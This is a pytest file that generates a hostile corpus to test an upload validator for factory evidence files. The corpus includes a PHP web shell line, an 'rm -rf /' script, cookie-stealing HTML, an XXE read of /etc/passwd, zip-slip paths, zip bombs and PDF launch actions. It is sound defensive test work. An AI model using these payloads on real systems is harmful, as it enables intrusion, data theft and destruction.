"""Evidence upload validation against a hostile corpus generated at test time (no binary fixtures).

Every rejection code in REJECTION_CODES is produced by at least one case below; valid files of every kind
pass with the right kind and an SM3 digest that matches an independent implementation.
"""

from __future__ import annotations

import hashlib
import io
import struct
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from greenmfg.evidence import validation
from greenmfg.evidence.validation import (
    DEFAULT_ALLOWED,
    KIND_LABELS,
    KIND_MIME,
    REJECTION_CODES,
    SM3SelfTestError,
    UploadLimits,
    UploadRejected,
    inspect_upload,
    safe_download_name,
    sm3_hex,
    sm3_self_test,
)

MiB = 1024 * 1024
HAS_HASHLIB_SM3 = "sm3" in hashlib.algorithms_available


# ------------------------------------------------------------------------------------------ builders


def pdf_bytes(configure: Callable[[PdfWriter], object] | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(72, 72)
    if configure is not None:
        configure(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def classic_pdf(*bodies: bytes) -> bytes:
    """A hand-written PDF with a classic xref table; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, xref)
    return bytes(out)


PAGE_OBJECTS = (
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 72 72] >>",
)


def objstm_javascript_pdf() -> bytes:
    """The JavaScript action lives in a compressed object stream, behind a cross-reference stream: no
    byte of '/JavaScript' is visible in the file, only the parsed object graph shows it."""
    header = b"4 0 "
    packed = zlib.compress(header + b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}

    def add(number: int, body: bytes) -> None:
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    add(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")
    add(2, PAGE_OBJECTS[0])
    add(3, PAGE_OBJECTS[1])
    add(
        5,
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(header), len(packed), packed),
    )
    xref = len(out)
    rows = [(0, 0, 0xFFFF), (1, offsets[1], 0), (1, offsets[2], 0), (1, offsets[3], 0), (2, 5, 0)]
    rows += [(1, offsets[5], 0), (1, xref, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    assert b"JavaScript" not in out
    return bytes(out)


def png_bytes(width: int = 64, height: int = 48) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (30, 140, 60)).save(out, "PNG")
    return out.getvalue()


def jpeg_bytes(width: int = 64, height: int = 48) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (30, 140, 60)).save(out, "JPEG", quality=80)
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def pixel_flood_png(width: int, height: int) -> bytes:
    """A few hundred bytes claiming a huge 1-bit image (a crafted IHDR)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + png_chunk(b"IEND", b"")
    )


def jpeg_with_size(width: int, height: int) -> bytes:
    data = bytearray(jpeg_bytes())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def corrupt_png_crc() -> bytes:
    data = bytearray(png_bytes())
    idat = data.index(b"IDAT")
    data[idat + 6] ^= 0xFF  # a byte of the compressed data; the chunk CRC no longer matches
    return bytes(data)


def pe_executable() -> bytes:
    head = bytearray(b"MZ" + b"\x90\x00" * 30)
    head[60:64] = struct.pack("<I", 64)
    return bytes(head) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 200


OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504

CT_RELS = "application/vnd.openxmlformats-package.relationships+xml"
CT_DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
CT_DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
CT_PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
CT_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
REL_OFFICE_DOCUMENT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"


def content_types(main_part: str, main_type: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Default Extension="rels" ContentType="{CT_RELS}"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/>'
        "</Types>"
    ).encode()


def package_rels(target: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL_OFFICE_DOCUMENT}" Target="{target}"/>'
        "</Relationships>"
    ).encode()


DOCUMENT_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>绿色工厂自评价报告</w:t></w:r></w:p></w:body></w:document>"
).encode()


def docx_parts(main_type: str = CT_DOCX) -> dict[str, bytes]:
    return {
        "[Content_Types].xml": content_types("word/document.xml", main_type),
        "_rels/.rels": package_rels("word/document.xml"),
        "word/document.xml": DOCUMENT_XML,
    }


def zip_bytes(parts: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx_bytes(**extra: bytes) -> bytes:
    return zip_bytes({**docx_parts(), **extra})


class _Unseekable(io.RawIOBase):
    def __init__(self) -> None:
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, chunk: Any) -> int:
        self.data += chunk
        return len(chunk)


def streamed_docx() -> bytes:
    """Written to an unseekable stream, so every entry carries a data descriptor (flag bit 3), as
    LibreOffice and Java writers produce."""
    out = _Unseekable()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in {**docx_parts(), "word/media/image1.png": png_bytes()}.items():
            with archive.open(name, "w") as entry:
                entry.write(data)
    return bytes(out.data)


def docx_with(entry: zipfile.ZipInfo, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in docx_parts().items():
            archive.writestr(name, part)
        archive.writestr(entry, data)
    return out.getvalue()


def xlsx_bytes(**extra: bytes) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["指标", "单位产品综合能耗"])
    sheet.append(["数值", 0.42])
    out = io.BytesIO()
    workbook.save(out)
    if not extra:
        return out.getvalue()
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as original:
        parts = {name: original.read(name) for name in original.namelist()}
    return zip_bytes({**parts, **extra})


def pptx_bytes() -> bytes:
    presentation = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>'
    )
    return zip_bytes(
        {
            "[Content_Types].xml": content_types("ppt/presentation.xml", CT_PPTX),
            "_rels/.rels": package_rels("ppt/presentation.xml"),
            "ppt/presentation.xml": presentation,
        }
    )


OFD_XML = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0" DocType="OFD">'
    "<ofd:DocBody><ofd:DocInfo><ofd:DocID>b5c9e4a0</ofd:DocID><ofd:Title>绿色工厂证书</ofd:Title>"
    "</ofd:DocInfo><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
).encode()
OFD_DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<ofd:Document xmlns:ofd="http://www.ofdspec.org/2016">'
    b"<ofd:CommonData><ofd:MaxUnitID>1</ofd:MaxUnitID></ofd:CommonData><ofd:Pages/></ofd:Document>"
)


def ofd_bytes(ofd_xml: bytes = OFD_XML, **extra: bytes) -> bytes:
    return zip_bytes({"OFD.xml": ofd_xml, "Doc_0/Document.xml": OFD_DOCUMENT, **extra})


@dataclass
class RawEntry:
    name: str
    data: bytes
    claimed_size: int
    method: int = zipfile.ZIP_DEFLATED
    crc: int = 0
    flags: int = 0x800
    external_attr: int = 0


def raw_zip(entries: list[RawEntry], *, gap: bytes = b"", same_offset: bool = False) -> bytes:
    """A ZIP written by hand, so that headers can lie (sizes), entries can overlap or leave gaps."""
    out = bytearray()
    directory = bytearray()
    for index, entry in enumerate(entries):
        name = entry.name.encode()
        if index and same_offset:
            offset = 0  # points at the first entry's local header
        else:
            if index:
                out += gap
            offset = len(out)
            out += struct.pack(
                "<4s5H3L2H", b"PK\x03\x04", 20, entry.flags, entry.method, 0, 0x21, entry.crc,
                len(entry.data), entry.claimed_size, len(name), 0,
            )  # fmt: skip
            out += name + entry.data
        directory += struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 0x031E, 20, entry.flags, entry.method, 0, 0x21, entry.crc,
            len(entry.data), entry.claimed_size, len(name), 0, 0, 0, 0, entry.external_attr, offset,
        )  # fmt: skip
        directory += name
    start = len(out)
    out += directory
    out += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory), start, 0)
    return bytes(out)


def deflated(data: bytes) -> bytes:
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def deflated_zeros(mib: int) -> bytes:
    """Raw deflate of ``mib`` MiB of zeros in a few milliseconds: after a full flush the compressor's
    state is reset, so the block for one MiB can be repeated."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(MiB)) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * mib + packer.flush()


def honest(name: str, data: bytes) -> RawEntry:
    return RawEntry(name, deflated(data), len(data), crc=zlib.crc32(data))


def docx_raw_entries() -> list[RawEntry]:
    return [honest(name, data) for name, data in docx_parts().items()]


def zip_bomb_honest() -> bytes:
    """300 MB of zeros in ~300 KB, and the header says so."""
    return raw_zip([*docx_raw_entries(), RawEntry("word/media/zeros.bin", deflated_zeros(300), 300 * MiB)])


def zip_bomb_lying() -> bytes:
    """300 MB of zeros whose header claims 1,000 bytes: only real decompression reveals it."""
    return raw_zip([*docx_raw_entries(), RawEntry("word/media/zeros.bin", deflated_zeros(300), 1000)])


def zip_overlapping() -> bytes:
    """Two directory entries sharing one local file (the non-recursive zip bomb technique)."""
    data = b"x" * 100
    first = RawEntry("word/document.xml", data, 100, method=0, crc=zlib.crc32(data))
    second = RawEntry("word/other.xml", data, 100, method=0, crc=zlib.crc32(data))
    return raw_zip([first, second], same_offset=True)


def zip_with_gap() -> bytes:
    return raw_zip(docx_raw_entries(), gap=b"PK\x03\x04 hidden payload " * 4)


def zip_encrypted_entry() -> bytes:
    entries = docx_raw_entries()
    entries.append(RawEntry("word/secret.xml", b"\x00" * 40, 28, flags=0x801))
    return raw_zip(entries)


def zip_duplicate() -> bytes:
    entries = docx_raw_entries()
    entries.append(honest("WORD/document.xml", DOCUMENT_XML))
    return raw_zip(entries)


def zip_bad_crc() -> bytes:
    entries = docx_raw_entries()
    entries[-1].crc ^= 1
    return raw_zip(entries)


def symlink_info(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = (0o120777 << 16) & 0xFFFFFFFF
    return info


def many_entries(count: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for name, data in docx_parts().items():
            archive.writestr(name, data)
        for index in range(count):
            archive.writestr(f"word/media/p{index}.xml", b"<a/>")
    return out.getvalue()


def random_bytes(n: int, seed: int = 7) -> bytes:
    return hashlib.shake_256(seed.to_bytes(4, "big")).digest(n)


# ----------------------------------------------------------------------------------------- the corpus


@dataclass
class Case:
    id: str
    filename: str
    build: Callable[[], bytes]
    code: str
    kwargs: dict[str, Any] = field(default_factory=dict)


EXTERNAL_TEMPLATE_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://203.0.113.9/t.dotm" TargetMode="External"/></Relationships>'
)
XXE_DOCUMENT = (
    b'<?xml version="1.0"?>\n<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&xxe;</w:document>'
)
SVG_SCRIPT = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PLAIN_TEXT = "能耗数据：单位产品综合能耗 0.42 tce/t\n".encode()
HTML_PAGE = b"<!DOCTYPE html>\n<html><body><script>fetch('/steal?c='+document.cookie)</script></body></html>"


def _launch(writer: PdfWriter) -> None:
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})


def _xfa(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): ArrayObject()}
    )


CASES = [
    # the name
    Case("nul-in-name", "report\x00.pdf", pdf_bytes, "bad_filename"),
    Case("slash-in-name", "../../etc/report.pdf", pdf_bytes, "bad_filename"),
    Case("backslash-in-name", "..\\report.pdf", pdf_bytes, "bad_filename"),
    Case("crlf-in-name", "report\r\nX-Injected: 1.pdf", pdf_bytes, "bad_filename"),
    Case("rlo-in-name", "report\u202efdp.exe.pdf", pdf_bytes, "bad_filename"),
    Case("ntfs-stream", "report.pdf:evil", pdf_bytes, "bad_filename"),
    Case("trailing-dot", "report.pdf.", pdf_bytes, "bad_filename"),
    Case("dot-only-stem", ".pdf", pdf_bytes, "bad_filename"),
    Case("long-name", "报" * 90 + ".pdf", pdf_bytes, "bad_filename"),
    Case("pdf-dot-php", "a.pdf.php", pdf_bytes, "double_extension"),
    Case("php-dot-pdf", "a.php.pdf", pdf_bytes, "double_extension"),
    Case("jsp-dot-png", "shell.jsp.png", png_bytes, "double_extension"),
    Case("exe-extension", "setup.exe", pe_executable, "extension_not_allowed"),
    Case("svg-extension", "logo.svg", lambda: SVG_SCRIPT, "extension_not_allowed"),
    Case("docm-extension", "macro.docm", docx_bytes, "extension_not_allowed"),
    Case("xlsm-extension", "macro.xlsm", xlsx_bytes, "extension_not_allowed"),
    Case("no-extension", "README", pdf_bytes, "extension_not_allowed"),
    Case("not-in-allowed", "photo.png", png_bytes, "extension_not_allowed", {"allowed": frozenset({"pdf"})}),
    # size
    Case("empty", "empty.pdf", lambda: b"", "empty"),
    Case("oversize", "big.pdf", lambda: pdf_bytes() + b"\n" * 4096, "too_large", {"max_bytes": 1024}),
    # what the bytes are
    Case("exe-as-pdf", "invoice.pdf", pe_executable, "executable"),
    Case("elf-as-png", "photo.png", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 64, "executable"),
    Case("lnk-as-pdf", "report.pdf", lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 64, "executable"),
    Case("html-as-pdf", "report.pdf", lambda: HTML_PAGE, "html"),
    Case("utf16-html-as-pdf", "report.pdf", lambda: "\ufeff<html><script>x</script>".encode("utf-16-le"), "html"),
    Case("svg-as-png", "chart.png", lambda: SVG_SCRIPT, "svg"),
    Case("php-as-jpg", "photo.jpg", lambda: b"<?php system($_GET['c']); ?>", "script"),
    Case("shell-as-pdf", "report.pdf", lambda: b"#!/bin/sh\nrm -rf /\n", "script"),
    Case("plain-zip-as-pdf", "report.pdf", lambda: zip_bytes({"a.txt": b"hello"}), "archive"),
    Case("rar-as-pdf", "report.pdf", lambda: b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64, "archive"),
    Case("gzip-as-docx", "report.docx", lambda: b"\x1f\x8b\x08\x00" + b"\x00" * 64, "archive"),
    Case("legacy-doc-as-docx", "report.docx", lambda: OLE2, "legacy_office"),
    Case("gif-as-png", "photo.png", lambda: b"GIF89a" + b"\x00" * 64, "unsupported_type"),
    Case("text-as-pdf", "report.pdf", lambda: PLAIN_TEXT, "unsupported_type"),
    Case("random-as-pdf", "report.pdf", lambda: b"\x00\x9f" + random_bytes(512), "unsupported_type"),
    Case("png-as-pdf", "report.pdf", png_bytes, "type_mismatch"),
    Case("pdf-as-jpg", "photo.jpg", pdf_bytes, "type_mismatch"),
    Case("xlsx-as-docx", "report.docx", xlsx_bytes, "type_mismatch"),
    Case("docx-as-ofd", "cert.ofd", docx_bytes, "type_mismatch"),
    # polyglots
    Case(
        "pdf-html-polyglot",
        "report.pdf",
        lambda: pdf_bytes().replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1),
        "polyglot",
    ),
    Case("pdf-with-zip-appended", "report.pdf", lambda: pdf_bytes() + zip_bytes({"x.txt": b"x"}), "polyglot"),
    Case("png-with-zip-appended", "photo.png", lambda: png_bytes() + zip_bytes({"x.php": b"<?php"}), "polyglot"),
    Case("png-with-trailing-bytes", "photo.png", lambda: png_bytes() + b"\x00" * 16, "polyglot"),
    Case("docx-with-data-appended", "report.docx", lambda: docx_bytes() + b"<script>x</script>", "polyglot"),
    # PDF
    Case("pdf-unparseable", "report.pdf", lambda: b"%PDF-1.7\n" + random_bytes(2000) + b"\n%%EOF\n", "pdf_unparseable"),
    Case("pdf-truncated", "report.pdf", lambda: pdf_bytes()[:-60], "pdf_unparseable"),
    Case("pdf-javascript", "report.pdf", lambda: pdf_bytes(lambda w: w.add_open_action(JavaScript("app.alert(1)"))), "pdf_javascript"),
    Case(
        "pdf-javascript-hex-escaped",
        "report.pdf",
        lambda: classic_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /JS (x) >> >>", *PAGE_OBJECTS),
        "pdf_javascript",
    ),
    Case("pdf-javascript-in-object-stream", "report.pdf", objstm_javascript_pdf, "pdf_javascript"),
    Case("pdf-launch", "report.pdf", lambda: pdf_bytes(_launch), "pdf_launch"),
    Case("pdf-embedded-file", "report.pdf", lambda: pdf_bytes(lambda w: w.add_attachment("run.bat", b"calc")), "pdf_embedded_file"),
    Case("pdf-xfa", "report.pdf", lambda: pdf_bytes(_xfa), "pdf_active_content"),
    Case(
        "pdf-user-password",
        "report.pdf",
        lambda: pdf_bytes(lambda w: w.encrypt(user_password="secret", owner_password="owner", algorithm="AES-128")),
        "pdf_encrypted",
    ),
    Case("pdf-too-complex", "report.pdf", pdf_bytes, "pdf_too_complex", {"limits": UploadLimits(pdf_max_objects=2)}),
    # images
    Case("png-pixel-flood-ihdr", "photo.png", lambda: pixel_flood_png(20000, 20000), "image_too_large"),
    Case("jpeg-pixel-flood-sof", "photo.jpg", lambda: jpeg_with_size(65000, 65000), "image_too_large"),
    Case("png-over-lowered-cap", "photo.png", lambda: png_bytes(100, 100), "image_too_large", {"limits": UploadLimits(max_pixels=5000)}),
    Case("png-truncated", "photo.png", lambda: png_bytes(300, 300)[:-40], "image_corrupt"),
    Case("png-bad-crc", "photo.png", corrupt_png_crc, "image_corrupt"),
    Case("jpeg-truncated", "photo.jpg", lambda: jpeg_bytes(300, 300)[:400], "image_corrupt"),
    Case("png-signature-only", "photo.png", lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 10, "image_corrupt"),
    # ZIP containers
    Case("zip-corrupt-directory", "report.docx", lambda: docx_bytes()[:-30], "zip_corrupt"),
    Case("zip-bad-crc", "report.docx", zip_bad_crc, "zip_corrupt"),
    Case("zip-encrypted-entry", "report.docx", zip_encrypted_entry, "zip_encrypted"),
    Case(
        "zip-bzip2-entry",
        "report.docx",
        lambda: zip_bytes(docx_parts(), compression=zipfile.ZIP_BZIP2),
        "zip_unsupported_compression",
    ),
    Case("zip-slip-dotdot", "report.docx", lambda: docx_with(zipfile.ZipInfo("../../x"), b"pwned"), "zip_slip"),
    Case("zip-slip-absolute", "report.docx", lambda: docx_with(zipfile.ZipInfo("/etc/cron.d/x"), b"x"), "zip_slip"),
    Case("zip-slip-drive", "report.docx", lambda: docx_with(zipfile.ZipInfo("C:/Windows/x.dll"), b"x"), "zip_slip"),
    Case("zip-slip-backslash", "report.docx", lambda: docx_with(zipfile.ZipInfo("word\\..\\..\\x"), b"x"), "zip_slip"),
    Case("zip-control-name", "report.docx", lambda: docx_with(zipfile.ZipInfo("word/a\x01b.xml"), b"<a/>"), "zip_bad_entry_name"),
    Case("zip-symlink", "report.docx", lambda: docx_with(symlink_info("word/media/link"), b"/etc/passwd"), "zip_symlink"),
    Case("zip-duplicate-entry", "report.docx", zip_duplicate, "zip_duplicate_entry"),
    Case("zip-too-many-entries", "report.docx", lambda: many_entries(2001), "zip_too_many_entries"),
    Case(
        "zip-directory-too-large",
        "report.docx",
        lambda: many_entries(40),
        "zip_too_many_entries",
        {"limits": UploadLimits(zip_max_central_directory=1000)},
    ),
    Case(
        "zip-too-large-total",
        "report.docx",
        lambda: docx_bytes(**{"word/media/a.bin": random_bytes(MiB, 1), "word/media/b.bin": random_bytes(MiB, 2)}),
        "zip_too_large",
        {"limits": UploadLimits(zip_max_total_uncompressed=MiB)},
    ),
    Case("zip-bomb-honest-header", "report.docx", zip_bomb_honest, "zip_bomb"),
    Case("zip-bomb-lying-header", "report.docx", zip_bomb_lying, "zip_bomb"),
    Case("zip-overlapping-entries", "report.docx", zip_overlapping, "zip_overlap"),
    Case("zip-hidden-data", "report.docx", zip_with_gap, "zip_hidden_data"),
    Case("nested-zip-by-content", "report.docx", lambda: docx_bytes(**{"word/media/image1.bin": zip_bytes({"a": b"a"})}), "zip_nested_archive"),
    Case(
        "nested-workbook-behind-chart",
        "report.docx",
        lambda: docx_bytes(**{"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx_bytes()}),
        "zip_nested_archive",
    ),
    Case("nested-exe-in-docx", "report.docx", lambda: docx_bytes(**{"word/media/image1.png": pe_executable()}), "zip_embedded_executable"),
    Case("script-by-name-in-ofd", "cert.ofd", lambda: ofd_bytes(**{"Res/run.vbs": b"MsgBox 1"}), "zip_embedded_executable"),
    Case("ole-object-in-docx", "report.docx", lambda: docx_bytes(**{"word/embeddings/oleObject1.bin": OLE2}), "zip_embedded_object"),
    Case("xxe-in-docx", "report.docx", lambda: docx_bytes(**{"word/document.xml": XXE_DOCUMENT}), "xml_dtd"),
    Case("docm-renamed-docx", "report.docx", lambda: zip_bytes({**docx_parts(CT_DOCM), "word/vbaProject.bin": OLE2}), "macro"),
    Case("macro-content-type-only", "report.docx", lambda: zip_bytes(docx_parts(CT_DOCM)), "macro"),
    Case("xlsm-renamed-xlsx", "data.xlsx", lambda: xlsx_bytes(**{"xl/vbaProject.bin": OLE2}), "macro"),
    Case("activex-in-docx", "report.docx", lambda: docx_bytes(**{"word/activeX/activeX1.xml": b"<ax/>"}), "active_content"),
    Case("docx-without-document", "report.docx", lambda: zip_bytes({k: v for k, v in docx_parts().items() if k != "word/document.xml"}), "ooxml_missing_part"),
    Case("docx-without-content-types", "report.docx", lambda: zip_bytes({k: v for k, v in docx_parts().items() if k != "[Content_Types].xml"}), "ooxml_missing_part"),
    Case("plain-zip-as-docx", "report.docx", lambda: zip_bytes({"a.txt": b"hello"}), "ooxml_missing_part"),
    Case("docx-wrong-main-type", "report.docx", lambda: zip_bytes(docx_parts(CT_XLSX)), "ooxml_invalid"),
    Case("docx-remote-template", "report.docx", lambda: docx_bytes(**{"word/_rels/settings.xml.rels": EXTERNAL_TEMPLATE_RELS}), "ooxml_external_reference"),
    Case("zip-without-ofd-xml", "cert.ofd", lambda: zip_bytes({"Doc_0/Document.xml": OFD_DOCUMENT}), "ofd_missing_part"),
    Case("ofd-missing-docroot-target", "cert.ofd", lambda: zip_bytes({"OFD.xml": OFD_XML}), "ofd_missing_part"),
    Case("ofd-wrong-root", "cert.ofd", lambda: ofd_bytes(b"<?xml version='1.0'?><Document/>"), "ofd_invalid"),
]  # fmt: skip


def inspect_file(tmp_path: Path, data: bytes, filename: str, **kwargs: Any) -> validation.Inspected:
    """Writes the bytes under a neutral name (the claimed name may be hostile) and inspects the stream."""
    path = tmp_path / "upload.bin"
    path.write_bytes(data)
    with path.open("rb") as stream:
        return inspect_upload(stream, filename, **kwargs)


def test_every_rejection_code_has_a_case() -> None:
    assert {case.code for case in CASES} == REJECTION_CODES


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_hostile_corpus_is_rejected_with_the_exact_code(tmp_path: Path, case: Case) -> None:
    data = case.build()
    with pytest.raises(UploadRejected) as caught:
        inspect_file(tmp_path, data, case.filename, **case.kwargs)
    rejected = caught.value
    assert rejected.code == case.code, f"{rejected.code}: {rejected.zh} / {rejected.en}"
    assert any("\u4e00" <= ch <= "\u9fff" for ch in rejected.zh), rejected.zh
    assert rejected.en.isascii() or any(ch in rejected.en for ch in case.filename), rejected.en
    assert rejected.code in str(rejected)


# ----------------------------------------------------------------------------------------- valid files

VALID = [
    ("pdf", "绿色工厂自评价报告.pdf", pdf_bytes, "pdf", "pdf"),
    ("pdf-upper-case", "REPORT.PDF", pdf_bytes, "pdf", "pdf"),
    ("pdf-dotted-name", "附件1.1 能源审计报告（2024）.pdf", pdf_bytes, "pdf", "pdf"),
    ("pdf-trailing-newlines", "report.pdf", lambda: pdf_bytes() + b"\r\n\r\n", "pdf", "pdf"),
    ("png", "现场照片.png", png_bytes, "png", "png"),
    ("jpeg-jpg", "photo.jpg", jpeg_bytes, "jpeg", "jpg"),
    ("jpeg-jpeg", "photo.JPEG", jpeg_bytes, "jpeg", "jpeg"),
    ("docx", "自评价报告.docx", docx_bytes, "docx", "docx"),
    ("xlsx-openpyxl", "能耗台账.xlsx", xlsx_bytes, "xlsx", "xlsx"),
    ("pptx", "汇报.pptx", pptx_bytes, "pptx", "pptx"),
    ("ofd", "电子证照.ofd", ofd_bytes, "ofd", "ofd"),
    ("docx-2000-entries", "many.docx", lambda: many_entries(1997), "docx", "docx"),
    ("docx-data-descriptors", "streamed.docx", streamed_docx, "docx", "docx"),
    (
        "docx-with-image",
        "report.docx",
        lambda: docx_bytes(**{"word/media/image1.png": png_bytes()}),
        "docx",
        "docx",
    ),
]


@pytest.mark.parametrize(
    ("filename", "build", "kind", "extension"), [v[1:] for v in VALID], ids=[v[0] for v in VALID]
)
def test_valid_files_pass_with_kind_and_sm3(
    tmp_path: Path, filename: str, build: Callable[[], bytes], kind: str, extension: str
) -> None:
    data = build()
    inspected = inspect_file(tmp_path, data, filename)
    assert inspected.kind == kind
    assert inspected.extension == extension
    assert inspected.mime == KIND_MIME[inspected.kind]
    assert inspected.size == len(data)
    assert inspected.sm3 == sm3_hex(io.BytesIO(data))
    assert len(inspected.sm3) == 64
    if HAS_HASHLIB_SM3:
        assert inspected.sm3 == hashlib.new("sm3", data).hexdigest()
    assert inspected.kind in DEFAULT_ALLOWED
    assert KIND_LABELS[inspected.kind]


def test_owner_password_only_pdf_is_accepted_with_a_note(tmp_path: Path) -> None:
    data = pdf_bytes(lambda w: w.encrypt(user_password="", owner_password="owner", algorithm="AES-256"))
    inspected = inspect_file(tmp_path, data, "盖章文件.pdf")
    assert inspected.kind == "pdf"
    assert inspected.notes == ("pdf_encrypted_permissions",)


def test_exe_renamed_pdf_message_names_the_content_and_the_extension(tmp_path: Path) -> None:
    with pytest.raises(UploadRejected) as caught:
        inspect_file(tmp_path, pe_executable(), "invoice.pdf")
    assert caught.value.zh.startswith("文件内容为 Windows 可执行程序，与扩展名 .pdf 不符")
    assert "Windows executable" in caught.value.en and ".pdf" in caught.value.en


def test_zip_bomb_is_stopped_early(tmp_path: Path) -> None:
    """The lying 300 MB bomb is refused after at most the declared size plus one step of output."""
    started = time.perf_counter()
    with pytest.raises(UploadRejected) as caught:
        inspect_file(tmp_path, zip_bomb_lying(), "report.docx")
    assert caught.value.code == "zip_bomb"
    assert "1000" in caught.value.zh
    assert time.perf_counter() - started < 2


